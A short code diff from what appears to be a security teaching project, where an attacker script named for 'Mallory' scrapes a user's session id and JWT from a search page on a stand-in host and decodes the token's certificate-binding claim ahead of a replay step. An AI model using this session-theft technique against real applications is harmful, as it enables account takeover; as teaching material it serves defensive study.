@@ -1,5 +1,4 @@
 // What Mallory's programs share: the theft of lesson 9, and the use of what was stolen.
-import { decodeJwt } from 'jose';
 import { send } from '../http.js';
 import { pem } from '../pem.js';
 
@@ -12,9 +11,10 @@ export async function stealSession() {
   const found = await send(`https://app.tally.example:8443/search?q=${encodeURIComponent(words)}`);
   const [, id = '', token = ''] = /<li>([\w-]{43}): (eyJ[\w.-]+)/.exec(found.text) ?? [];
   console.log(token ? 'stolen: Ana’s cookie and token' : 'there is nothing to steal');
-  const { cnf } = decodeJwt(token);
+  /** @type {{ cnf?: { 'x5t#S256'?: string } }} */
+  const { cnf } = JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString() || '{}'); // anyone can read it
   console.log(cnf ? `in the token: cnf ${JSON.stringify(cnf)}` : 'in the token: no cnf');
-  return { id, token };
+  return { id, token, cnf };
 }
 
 //#region replay
